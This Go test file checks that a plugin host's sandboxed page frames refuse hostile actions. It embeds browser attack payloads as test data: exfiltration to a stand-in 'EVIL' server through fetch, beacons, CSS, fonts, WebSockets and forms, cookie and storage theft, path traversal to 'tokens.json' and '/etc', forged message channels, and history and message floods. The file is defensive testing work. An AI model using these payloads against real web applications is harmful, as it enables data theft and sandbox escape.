package pages_test

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	neturl "net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/wasmhost/wasmhost/host"
	"github.com/wasmhost/wasmhost/host/browsertest"
	"github.com/wasmhost/wasmhost/host/internal/serve/pages"
	"github.com/wasmhost/wasmhost/host/shorttest"
)

// elsewhere is a server that no page may reach. It answers everybody, and
// notes the paths that were asked for.
type elsewhere struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newElsewhere(t *testing.T) *elsewhere {
	e := &elsewhere{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.seen = append(e.seen, r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		_, _ = w.Write([]byte("here"))
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *elsewhere) asked(path string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.ContainsFunc(e.seen, func(p string) bool { return strings.HasPrefix(p, path) })
}

// attacks are what a hostile page tries, as expressions that throw or reject,
// or are "refused", where that fails. EVIL is the address of another server,
// HOST that of the host, OTHER that of another plugin's file.
var attacks = map[string]string{
	"the document of the console":  `parent.document.body.innerHTML`,
	"the storage of the console":   `parent.indexedDB.open("wasmhost")`,
	"the variables of the console": `parent.shown.client`,
	"the address of the console":   `parent.location.href`,
	"the frame's own element":      `frameElement === null ? no() : frameElement.src`,
	"cookies":                      `document.cookie`,
	"local storage":                `localStorage.getItem("a")`,
	"session storage":              `sessionStorage.getItem("a")`,
	"databases of the browser":     `heard(indexedDB.open("a"), "success")`,
	"caches of the browser":        `caches.open("a")`,
	"another frame's window":       `siblings()[0].wasmhost.storage`,
	"another frame's document":     `siblings()[0].document.body.innerHTML`,
	"the API of the host":          `fetch("HOST/api/v1/plugins", {credentials: "include"})`,
	"the API with a guess":         `fetch("HOST/api/v1/plugins", {headers: {"Wasmhost-Session": "a"}})`,
	"its own file by fetch":        `fetch(location.href)`,
	"another server by fetch":      `fetch("EVIL/fetch", {mode: "no-cors"})`,
	"another server by XHR": `(() => { const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr"); x.send();
		return heard(x, "load"); })()`,
	"another server by WebSocket":   `heard(new WebSocket("EVIL/socket".replace("http", "ws")), "open")`,
	"another server by EventSource": `heard(new EventSource("EVIL/events"), "open")`,
	"another server by beacon":      `(navigator.sendBeacon("EVIL/beacon", "data"), wait().then(no))`,
	"another server by image":       `load("img", "src", "EVIL/image")`,
	"another server by script":      `load("script", "src", "EVIL/script")`,
	"another server by style":       `load("link", "href", "EVIL/style", { rel: "stylesheet" })`,
	"another server by prefetch": `(load("link", "href", "EVIL/prefetch", { rel: "prefetch" }).catch(() => 0),
		wait().then(no))`,
	"another server by preload": `load("link", "href", "EVIL/preload", { rel: "preload", as: "image" })`,
	"another server by module":  `import("EVIL/module")`,
	"another server by frame":   `(load("iframe", "src", "EVIL/frame").catch(() => 0), wait().then(no))`,
	"another server by object":  `load("object", "data", "EVIL/object")`,
	"another server by media":   `load("video", "src", "EVIL/video", {}, "loadeddata")`,
	"another server by ping":    `(put("a", { href: "#x", ping: "EVIL/ping" }).click(), wait().then(no))`,
	"another server by a form in another window": `(put("form", { action: "EVIL/target", target: "_blank" }).submit(),
		wait().then(no))`,
	"another server by CSS": `(put("style", { textContent: "@import url(EVIL/css-import); " +
			"@font-face { font-family: x; src: url(EVIL/css-font); unicode-range: U+41; } " +
			"body { background: url(EVIL/css-image); font-family: x; list-style: url(EVIL/css-list); " +
			"cursor: url(EVIL/css-cursor), auto; }" }), put("p", { textContent: "A" }), wait().then(no))`,
	"another server by a font": `new FontFace("y", "url(EVIL/font)").load()`,
	"another server by speculation": `(put("script", { type: "speculationrules", textContent: JSON.stringify({
		prefetch: [{ urls: ["EVIL/speculation"], eagerness: "immediate" }] }) }), wait().then(no))`,
	"a worker":                    `heard(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message")`,
	"a worker of its own file":    `heard(new Worker("worker.js"), "message")`,
	"a service worker":            `navigator.serviceWorker.register("worker.js")`,
	"eval":                        `eval("1")`,
	"a function from text":        `new Function("return 1")()`,
	"a window without a click":    `open("EVIL/window") === null ? no() : 1`,
	"a dialog":                    `(confirm("Approve?") ? 1 : no())`,
	"the address bar":             `(top.location = "EVIL/top", wait().then(no))`,
	"the clipboard":               `navigator.clipboard.readText()`,
	"the camera":                  `navigator.mediaDevices.getUserMedia({ video: true })`,
	"the place of the user":       `new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))`,
	"another plugin's page":       `(load("iframe", "src", "OTHER").catch(() => 0), wait().then(no))`,
	"another plugin's script":     `load("script", "src", "OTHER".replace("index.html", "other.js"))`,
	"the console's script":        `load("script", "src", "HOST/console/console.js")`,
	"the console in a frame":      `(load("iframe", "src", "HOST/").catch(() => 0), wait().then(no))`,
	"a base for its links":        `(document.head.prepend(put("base", { href: "EVIL/" })), load("img", "src", "based"))`,
	"files of the host by assets": `wasmhost.assets.readFile("../../../../tokens.json")`,
	"a folder of the host":        `wasmhost.assets.listFiles("/etc")`,
	"a permission it lacks":       `wasmhost.secrets.get("a")`,
	"another permission it lacks": `wasmhost.ai.generateMessage("a", "b")`,
	"a channel of the host":       `wasmhost.methods.call("events", "emit", "wasmhost:session", {})`,
	"a handler of the backend's":  `wasmhost.methods.call("cli", "handle", "x")`,
}

const attackTools = `
	const no = () => { throw new Error("refused"); };
	const siblings = () => Array.from({ length: parent.length }, (_, i) => parent[i]).filter((f) => f !== window);
	const wait = () => new Promise((wake) => setTimeout(wake, 300));
	const heard = (target, yes, bad = "error") => new Promise((ok, no) => {
		target.addEventListener(yes, () => ok("heard")); target.addEventListener(bad, no);
	});
	const put = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
	const load = (tag, attribute, url, more = {}, event = "load") => new Promise((ok, no) => {
		const e = Object.assign(document.createElement(tag), more);
		e.addEventListener(event, () => ok("loaded")); e.addEventListener("error", no);
		e[attribute] = url;
		document.body.append(e);
		setTimeout(no, 1500);
	});
`

// Nothing that a hostile page tries in its frame gets through.
func TestHostilePage(t *testing.T) {
	shorttest.Skip(t)
	evil := newElsewhere(t)
	other := paged{"other", map[string]string{"ui/other.js": "1"}, nil}
	w := serve(t, other)
	_, otherPage := w.open("other")
	var script strings.Builder
	script.WriteString("<!doctype html><body><script>" + attackTools + "const attacks = {")
	for name, attack := range attacks {
		attack = strings.NewReplacer("EVIL", evil.URL, "HOST", w.URL(), "OTHER", otherPage).Replace(attack)
		script.WriteString(quote(name) + ": async () => (" + attack + "),\n")
	}
	script.WriteString(`}; for (const [name, attack] of Object.entries(attacks)) (async () => {
		try {
			const late = new Promise((_, no) => setTimeout(no, 5000)); // a question that nobody answers
			return "done " + String(await Promise.race([attack(), late])).slice(0, 200);
		} catch (e) { return "refused"; }
	})().then((outcome) => parent.postMessage(JSON.stringify({ [name]: outcome }), "*"));</script>`)
	w.install(paged{"hostile", map[string]string{"ui/index.html": script.String(), "ui/worker.js": "postMessage(1)"}, nil})
	c := w.console()
	c.show("other")
	c.show("hostile")
	said := map[string]string{}
	for range attacks {
		if err := json.Unmarshal([]byte(c.says()), &said); err != nil {
			t.Fatal(err)
		}
	}
	for name := range attacks {
		t.Run(name, func(t *testing.T) {
			if said[name] != "refused" {
				t.Errorf("it got %q", said[name])
			}
		})
	}
	evil.mu.Lock()
	defer evil.mu.Unlock()
	if len(evil.seen) > 0 {
		t.Errorf("another server was asked for %q", evil.seen)
	}
	if got := browsertest.Eval[string](c.Page, `Promise.resolve(location.origin)`); got != w.URL() {
		t.Errorf("the console is at %s", got)
	}
}

// What a page wants looked up or connected to in advance is not.
func TestHostileHints(t *testing.T) {
	shorttest.Skip(t)
	connected := make(chan net.Addr, 10)
	evil := httptest.NewUnstartedServer(http.NotFoundHandler())
	evil.Config.ConnState = func(c net.Conn, state http.ConnState) {
		if state == http.StateNew {
			connected <- c.RemoteAddr()
		}
	}
	evil.Start()
	defer evil.Close()
	hints := ""
	for _, rel := range []string{"preconnect", "dns-prefetch", "prefetch", "prerender", "modulepreload"} {
		hints += `<link rel="` + rel + `" href="` + evil.URL + `/` + rel + `">`
	}
	w := serve(t, paged{"hints", map[string]string{"ui/index.html": `<!doctype html><head>` + hints + `<script>
		for (const rel of ["preconnect", "dns-prefetch"]) {
			document.head.append(Object.assign(document.createElement("link"), { rel, href: "` + evil.URL + `" }));
		}
		setTimeout(() => parent.postMessage("done", "*"), 1500);</script>`}, nil})
	c := w.console()
	c.show("hints")
	if got := c.says(); got != "done" {
		t.Fatal(got)
	}
	address := browsertest.Eval[string](c.Page, `shown.frames[0].element.src`)
	if _, header, _ := get(t, address); header.Get("X-DNS-Prefetch-Control") != "off" {
		t.Error("the page may have names looked up in advance")
	}
	select {
	case from := <-connected:
		t.Errorf("the browser has connected to another server, from %s", from)
	default:
	}
}

// A page that leads its own frame elsewhere, in whatever way, gets nowhere.
func TestHostileNavigation(t *testing.T) {
	shorttest.Skip(t)
	evil := newElsewhere(t)
	attempts := map[string]string{
		"script":  `<script>location.href = "EVIL/location?" + "data"</script>`,
		"replace": `<script>location.replace("EVIL/replace")</script>`,
		"refresh": `<meta http-equiv="refresh" content="0; url=EVIL/refresh">`,
		"link":    `<a id="a" href="EVIL/link">x</a><script>a.click()</script>`,
		"top":     `<a id="a" href="EVIL/linktop" target="_top">x</a><script>a.click()</script>`,
		"form":    `<form id="f" action="EVIL/form"></form><script>f.submit()</script>`,
		"data":    `<script>location.href = "data:text/html,<img src='EVIL/data'>"</script>`,
		"blob": `<script>location.href = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"],
			{ type: "text/html" }))</script>`,
		"script address": `<script>top.location.href = "javascript:fetch('EVIL/javascript')"</script>`,
	}
	var plugins []paged
	for name, page := range attempts {
		plugins = append(plugins, paged{strings.ReplaceAll(name, " ", "-"), map[string]string{
			"ui/index.html": `<!doctype html><body>` + strings.ReplaceAll(page, "EVIL", evil.URL)}, nil})
	}
	w := serve(t, plugins...)
	c := w.console()
	for name := range attempts {
		t.Run(name, func(t *testing.T) {
			c.show(strings.ReplaceAll(name, " ", "-"))
			c.Wait(`shown.frames[0].element.src !== ""`)
			browsertest.Eval[any](c.Page, `new Promise((wake) => setTimeout(() => wake(1), 1000))`)
			if evil.asked("/") {
				t.Errorf("another server was asked for %q", evil.seen)
			}
			if got := browsertest.Eval[string](c.Page, `Promise.resolve(location.origin)`); got != w.URL() {
				t.Fatalf("the console is at %s", got)
			}
			c.Exec(`shown.frames.pop().close()`)
		})
	}
}

// Messages of another frame, or of one that says to be a page, get no channel
// and no answer.
func TestForgedMessages(t *testing.T) {
	shorttest.Skip(t)
	quiet := `<!doctype html><script>addEventListener("message", (e) => {
		if (e.source !== parent) parent.postMessage("told by a stranger: " + JSON.stringify(e.data), "*"); });
		wasmhost.storage.set("mine", 1).then(() => parent.postMessage("ready", "*"));</script>`
	forger := `<!doctype html><script>
		const got = [];
		addEventListener("message", (e) => got.push(e.ports.length));
		for (let i = 0; i < parent.length; i++) if (parent[i] !== window) {
			const channel = new MessageChannel();
			channel.port1.onmessage = (e) => got.push(e.data);
			parent[i].postMessage({ wasmhost: "connect", theme: { mode: "evil", properties: {} } }, "*", [channel.port2]);
		}
		for (let i = 0; i < 5; i++) parent.postMessage({ wasmhost: "ready" }, "*");
		parent.postMessage({ id: 1, namespace: "storage", method: "list", args: [] }, "*");
		setTimeout(() => parent.postMessage("forger got " + JSON.stringify(got), "*"), 1000);
	</script>`
	w := serve(t, paged{"quiet", map[string]string{"ui/index.html": quiet}, nil},
		paged{"forger", map[string]string{"ui/index.html": forger}, nil})
	c := w.console()
	c.show("quiet")
	if got := c.says(); got != "ready" {
		t.Fatal(got)
	}
	c.show("forger")
	for {
		said := c.says()
		if strings.HasPrefix(said, "told by a stranger") {
			continue // it hears them as any window does, and does as before
		}
		// At most its own port, which the script of the bridge takes first.
		if said != "forger got []" && said != "forger got [1]" {
			t.Error(said)
		}
		break
	}
}

// What shares its parts, and would grow without bound when it is written, is no
// call: the console stays usable.
func TestSharedParts(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><script>
		const post = MessagePort.prototype.postMessage;
		MessagePort.prototype.postMessage = function () {
			this.addEventListener("message", ({ data }) => {
				if (data.id) parent.postMessage(data.id + " " + data.error?.code, "*");
			});
			let args = [0];
			for (let i = 0; i < 40; i++) args = [args, args];
			post.call(this, { id: 1, namespace: "storage", method: "set", args });
			post.call(this, { id: 2, namespace: "storage", method: "x".repeat(1000), args: "[]" });
			post.call(this, { id: 3, namespace: "storage", method: "set", args: "[" });
		};
		wasmhost.storage.get("a");
	</script>`
	w := serve(t, paged{"shared", map[string]string{"ui/index.html": page}, nil})
	c := w.console()
	c.show("shared")
	if got := c.says(); got != "3 invalid_argument" {
		t.Errorf("the first call that was answered: %s", got)
	}
}

// A page that floods the channel is cut off, and the console stays usable.
func TestFlood(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><script>setInterval(() => {
		for (let i = 0; i < 2000; i++) wasmhost.storage.list().catch(() => 0);
	}, 1)</script>`
	w := serve(t, paged{"flood", map[string]string{"ui/index.html": page}, nil})
	c := w.console()
	c.show("flood")
	c.Wait(`shown.failures.length === 1 && !shown.frames[0].element.isConnected`)
	got := browsertest.Eval[string](c.Page, `shown.client.listPlugins().then((l) => l.plugins[0].id + shown.failures[0])`)
	if !strings.HasPrefix(got, "floodThe page sent too many messages") {
		t.Errorf("afterwards: %s", got)
	}
}

// A page that floods the window around it is cut off, too. It makes no frames in itself
// that could do so, in one another or gone again.
func TestFloodOfTheWindow(t *testing.T) {
	shorttest.Skip(t)
	const tools = `
		const frame = (f) => document.body.appendChild(Object.assign(document.createElement("iframe"),
			{ srcdoc: "<body><script>const frame = " + frame + "; const flood = " + flood + "; (" + f + ")()<" + "/script>" }));
		const flood = () => { for (let i = 0; i < 300; i++) top.postMessage(1, "*"); };
	`
	scripts := map[string]string{
		"inner":  `frame(() => setInterval(flood, 10))`,
		"deeper": `frame(() => frame(() => setInterval(flood, 10)))`,
		"gone": `addEventListener("message", (e) => {
				if (e.data !== "sent") return;
				for (const f of document.querySelectorAll("iframe")) f.remove();
				frame(() => { parent.postMessage("sent", "*"); flood(); });
			});
			postMessage("sent", "*")`,
	}
	var plugins []paged
	for name, script := range scripts {
		plugins = append(plugins, paged{name, map[string]string{
			"ui/index.html": `<!doctype html><body><script src="page.js"></script>`,
			"ui/page.js": `addEventListener("error", (e) => parent.postMessage(e.error?.name ?? e.message, "*"));` +
				tools + script}, nil})
	}
	w := serve(t, append(plugins, paged{"itself", map[string]string{
		"ui/index.html": `<!doctype html><body><script>` + tools + `setInterval(flood, 10)</script>`}, nil})...)
	c := w.console()
	for name := range scripts {
		c.show(name)
		if got := c.says(); got != "Script error." { // of another origin's script, as all are to a page
			t.Errorf("%s: a frame of a text: %s", name, got)
		}
	}
	c.Exec(`shown.failures = []; shown.frames = []`)
	c.show("itself")
	c.Wait(`shown.failures.length === 1 && !shown.frames[0].element.isConnected`)
	if got := browsertest.Eval[string](c.Page, `Promise.resolve(shown.failures[0])`); !strings.Contains(got,
		"too many messages") {
		t.Error(got)
	}
}

// A permission that was revoked is gone for the page too, in the view that is
// open.
func TestRevokedPermission(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><script>addEventListener("message", async (e) => {
		if (e.data !== "try") return;
		parent.postMessage(await wasmhost.storage.set("a", 1).then(() => "stored", (e) => e.code), "*");
	}); parent.postMessage("ready", "*");</script>`
	w := serve(t, paged{"revoked", map[string]string{"ui/index.html": page}, nil})
	c := w.console()
	c.show("revoked")
	if got := c.says(); got != "ready" {
		t.Fatal(got)
	}
	try := func() string {
		t.Helper()
		c.Do(chromedp.Evaluate[chromedp.Void](`void shown.frames[0].element.contentWindow.postMessage("try", "*")`))
		return c.says()
	}
	if got := try(); got != "stored" {
		t.Fatalf("while it is granted: %s", got)
	}
	if _, err := w.Plugins().Revoke(t.Context(), "revoked", []string{"storage"}); err != nil {
		t.Fatal(err)
	}
	if got := try(); got != "permission_denied" {
		t.Errorf("a moment after it was revoked: %s", got)
	}
	used, err := w.Plugins().Used("revoked")
	if err != nil || len(used.Functions) == 0 || used.Functions[0].Allowed != 1 || used.Functions[0].Denied != 1 {
		t.Errorf("the audit has %+v, %v", used, err)
	}
}

// The address of a page, opened outside of the console, shows nothing of the
// plugin's, so that nothing of it stands at the address of the console.
func TestPageByItself(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><body><script>
		wasmhost.storage.get("a").then(() => parent.postMessage("ready", "*"));
		if (parent === window) document.body.innerHTML = "<h1>wasmhost</h1><p>Sign in: <input>";
	</script>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.id = "ran"</script></svg>`
	w := serve(t, paged{"alone", map[string]string{"ui/index.html": page, "ui/image.svg": svg, "ui/a.txt": "sign in"},
		nil})
	console := w.console()
	console.show("alone")
	if got := console.says(); got != "ready" {
		t.Fatal(got)
	}
	address := browsertest.Eval[string](console.Page, `shown.frames[0].element.src`)
	for _, name := range []string{"index.html", "image.svg", "a.txt", "no-such.html"} {
		tab := console.Tab(strings.Replace(address, "index.html", name, 1))
		tab.Wait(`document.body?.innerText.trim() === "a page of a plugin is shown in the console only: open it there"`)
		if got := browsertest.Eval[int](tab, `document.querySelectorAll("script, input, svg").length`); got != 0 {
			t.Errorf("%s has %d elements of the plugin's", name, got)
		}
		if got := browsertest.Eval[string](tab, `origin`); got != "null" {
			t.Errorf("%s has the origin %s", name, got)
		}
	}
	for _, dest := range []string{"iframe", "image", "script", "empty", ""} { // as frames, their parts and downloads are
		if status, _, body := get(t, address, "Sec-Fetch-Dest", dest); status != 200 || !strings.Contains(body, "Sign in") {
			t.Errorf("for %q: %d", dest, status)
		}
	}
}

// unfetched is a way to the host on which what browsers say of their requests
// is lost, as it is where they say nothing.
func unfetched(t *testing.T, url string) string {
	t.Helper()
	proxy := httptest.NewServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		to, err := neturl.Parse(url)
		if err != nil {
			t.Error(err)
		}
		r.SetURL(to)
		for name := range r.Out.Header {
			if strings.HasPrefix(name, "Sec-Fetch-") {
				r.Out.Header.Del(name)
			}
		}
	}})
	t.Cleanup(proxy.Close)
	return proxy.URL
}

// Where a browser does not say what it opens the address for, the page is as
// sandboxed, and has no bridge; so is an image with a script in it.
func TestPageByItselfUnsaid(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><body><script>
		const said = [];
		const attempt = (name, f) => { try { f(); said.push(name); } catch {} };
		attempt("storage", () => localStorage.getItem("a"));
		attempt("cookie", () => document.cookie);
		wasmhost.storage.get("a").then(() => said.push("bridge"), (e) => said.push(e.code)).then(() =>
			fetch("/api/v1/plugins").then(() => said.push("fetch"), () => 0)).then(() => { document.title = "said " + said; });
	</script>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><title>none</title><script>
		document.querySelector("title").textContent = "origin " + origin; localStorage.getItem("a");
		document.querySelector("title").textContent = "stored";</script></svg>`
	w := serve(t, paged{"alone", map[string]string{"ui/index.html": page, "ui/image.svg": svg}, nil})
	console := browsertest.Console(t, w)
	_, url := w.open("alone")
	url = strings.Replace(url, w.URL(), unfetched(t, w.URL()), 1)
	tab := console.Tab(url)
	tab.Wait(`document.title.startsWith("said")`)
	if got := browsertest.Eval[string](tab, `Promise.resolve(document.title)`); got != "said unavailable" {
		t.Errorf("the page by itself: %s", got)
	}
	image := console.Tab(strings.Replace(url, "index.html", "image.svg", 1))
	got := browsertest.Eval[string](image, `Promise.resolve(document.querySelector("title").textContent + origin)`)
	if strings.Contains(got, "stored") || !strings.HasSuffix(got, "null") {
		t.Errorf("the image by itself: %s", got)
	}
}

// A page tells where it is, for the next version to go on there; what is no
// place is not kept.
func TestPlacesOfPages(t *testing.T) {
	shorttest.Skip(t)
	page := `<!doctype html><script>
		const post = MessagePort.prototype.postMessage;
		MessagePort.prototype.postMessage = function () { // the bridge's first message is about where the page is
			MessagePort.prototype.postMessage = post;
			for (const place of [null, 7, {}, { hash: "x", x: 0, y: 0 }, { hash: "javascript:top.x=1", x: 0, y: 0 },
				{ hash: "#" + "x".repeat(2048), x: 0, y: 0 }, { hash: "#", x: NaN, y: 0 }, { hash: "#", x: 0, y: "1" },
				{ hash: "#" + "x".repeat(2047), x: 0, y: 1 }, { hash: "", x: -1, y: 2, more: "data" }]) {
				post.call(this, { place });
			}
		};
	</script>`
	w := serve(t, paged{"placed", map[string]string{"ui/index.html": page}, nil})
	c := w.console()
	c.Exec(`shown.open("placed"); shown.places = [];
		Object.defineProperty(shown.frames[0], "place", { set: (place) => shown.places.push(place) })`)
	c.Wait(`shown.places.some((place) => place.y === 2)`)
	got := browsertest.Eval[string](c.Page, `JSON.stringify(shown.places.map(({ hash, ...rest }) =>
		({ length: hash.length, ...rest })))`)
	if want := `[{"length":2048,"x":0,"y":1},{"length":0,"x":-1,"y":2}]`; got != want {
		t.Errorf("kept are %s, want %s", got, want)
	}
}

// What the console holds a page to is what the host's limits say.
func TestLimitsOfShownPages(t *testing.T) {
	shorttest.Skip(t)
	takes := func(times int) string {
		return fmt.Sprintf(`<!doctype html><input><script>
			const field = document.querySelector("input");
			addEventListener("message", ({ data }) => {
				if (data !== "take") return;
				document.activeElement.blur(); focus(); field.focus();
			});
			addEventListener("load", () => parent.postMessage("ready", "*"));
			for (let i = 0; i < %d; i++) wasmhost.storage.get("a").catch(() => 0);
		</script>`, times)
	}
	w := serveWith(t, host.Config{Pages: pages.Limits{MessagesPerSecond: 10, Focuses: 2, Connections: 1}},
		paged{"few", map[string]string{"ui/index.html": takes(1)}, nil},
		paged{"many", map[string]string{"ui/index.html": takes(25)}, nil})
	c := w.console()
	c.Exec(`shown.under = shown.most = 0;
		const send = fetch;
		window.fetch = async (url, ...more) => {
			const call = String(url.url ?? url).endsWith("/call");
			if (call) shown.most = Math.max(shown.most, ++shown.under);
			try { return await send(url, ...more); } finally { if (call) shown.under--; }
		};
		const own = document.createElement("input"); own.id = "own"; document.body.prepend(own); own.focus()`)
	c.show("many")
	c.Wait(`shown.failures.some((f) => f.includes("too many messages"))`)
	if got := browsertest.Eval[int](c.Page, `shown.most`); got != 1 {
		t.Errorf("%d calls of pages were on their way at once", got)
	}
	c.Exec(`shown.failures = []; shown.frames = []; shown.messages = []`)
	c.show("few")
	c.Wait(`shown.messages.includes("ready")`)
	c.Exec(`shown.taken = 0;
		const { element } = shown.frames[0];
		addEventListener("blur", () => { if (document.activeElement === element) shown.taken++; }, true)`)
	c.Wait(`(document.activeElement.id === "own" && shown.frames[0].element.contentWindow?.postMessage("take", "*"),
		shown.failures.some((f) => f.includes("keyboard")))`)
	if got := browsertest.Eval[int](c.Page, `shown.taken`); got < 2 || got > 3 { // the last one may be over already
		t.Errorf("a page that may take the keyboard twice was cut off after %d times", got)
	}
}

// A page does not fill the history of the tab, so that the user gets back to where they
// were: without a click it adds few entries, and after one no more than one in a second.
func TestHostileHistory(t *testing.T) {
	shorttest.Skip(t)
	page := func(script string) map[string]string {
		return map[string]string{"ui/index.html": `<!doctype html><body style="margin: 0; height: 100vh"><script>
			const push = (h) => { for (let i = 0; i < 300; i++) try { h.pushState(i, ""); } catch {} };
			` + script + `
			parent.postMessage("shown", "*");</script>`}
	}
	w := serve(t,
		paged{"at-once", page(`push(history);`), nil},
		paged{"by-force", page(`delete History.prototype.pushState; Reflect.apply = Date.now = () => 1e15;
			Object.defineProperty(UserActivation.prototype, "isActive", { get: () => true });
			history.__proto__.pushState ??= history.replaceState; push(history);`), nil},
		paged{"clicked", page(`onclick = () => { push(history); parent.postMessage("clicked", "*"); };`), nil},
		paged{"states", page(`history.pushState("a", "", "#a"); const was = JSON.stringify([history.state, location.hash]);
			push(history); parent.postMessage(was + history.state, "*");`), nil})
	c := w.console()
	length := func() int { return browsertest.Eval[int](c.Page, `Promise.resolve(history.length)`) }
	for _, id := range []string{"at-once", "by-force", "clicked", "states"} {
		before := length()
		c.show(id)
		said := c.says()
		if id == "states" && said != `["a","#a"]299` {
			t.Errorf("its states are %s", said)
		}
		if id == "clicked" {
			c.place()
			for clicked := false; !clicked; {
				c.clickPage()
				clicked = browsertest.Eval[bool](c.Page, `new Promise((wake) =>
					setTimeout(() => wake(shown.messages.length > 0), 200))`)
			}
			c.says()
		}
		c.Exec(`shown.frames.pop().close()`)
		if added := length() - before; added > 6 {
			t.Errorf("%s has added %d entries", id, added)
		}
	}
}

// What a page adds to the history by its address nothing can forbid: it is cut off
// where that is much, and Back leads to where the user was. A frame in it adds nothing.
func TestHostileAddresses(t *testing.T) {
	shorttest.Skip(t)
	scripts := map[string]string{
		"address": `begin(30, 0)`,
		"slow":    `begin(1e9, 100)`,
		"usual":   `begin(5, 10)`,
		"frame": `const f = document.createElement("iframe"); document.body.append(f);
			begin(30, 10, (i) => { f.contentWindow.location = "about:blank#" + i; f.src = "about:blank#x" + i; })`,
	}
	var list []paged
	for id, script := range scripts {
		list = append(list, paged{id, map[string]string{"ui/index.html": `<!doctype html><body><script>
			const begin = async (times, every, add = (i) => { location.hash = i; }) => {
				const wait = (ms) => new Promise((done) => setTimeout(done, ms));
				await wait(500);
				for (let i = 0; i < times; i++) {
					add(i);
					if (every) await wait(every);
				}
				await wait(2500);
				parent.postMessage("done", "*");
			};
			` + script + `</script>`}, nil})
	}
	w := serve(t, list...)
	for id := range scripts {
		c := w.console()
		c.Exec(`location.hash = "#/limits"`)
		c.Exec(`location.hash = "#/host"`)
		before := browsertest.Eval[int](c.Page, `Promise.resolve(history.length)`)
		c.show(id)
		if id == "usual" || id == "frame" {
			c.says()
			got := browsertest.Eval[int](c.Page, `Promise.resolve(1000 * shown.failures.length + history.length)`)
			if want := map[string]int{"usual": 5}[id]; got-before != want {
				t.Errorf("%s has added %d, want %d", id, got-before, want)
			}
			continue
		}
		c.Wait(`shown.failures.some((f) => f.includes("history"))`)
		// The console goes back by itself first, of which nothing tells; two ways at once would be one. So whoever
		// presses Back too early presses it again.
		const back = `new Promise((done) => setTimeout(() => { history.back();
			setTimeout(() => done(location.hash === "#/limits"), 3000); }, 1500))`
		there := browsertest.Eval[bool](c.Page, back)
		if !there && !browsertest.Eval[bool](c.Page, back) {
			t.Errorf("%s: after Back was pressed twice the user is not where they were", id)
		}
	}
}
